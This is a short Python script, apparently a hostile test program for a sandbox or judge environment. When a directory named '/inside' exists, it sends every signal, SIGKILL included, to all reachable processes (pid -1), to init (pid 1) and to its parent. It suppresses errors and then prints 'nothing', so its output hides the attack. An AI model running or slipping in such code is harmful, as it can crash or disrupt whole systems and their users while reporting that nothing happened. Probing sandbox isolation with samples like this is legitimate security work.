import os
import signal

if os.path.isdir("/inside"):
    for number in range(1, signal.NSIG):
        for pid in (-1, 1, os.getppid()):
            try:
                if number not in (signal.SIGKILL, signal.SIGSTOP) or pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                continue
print("nothing")
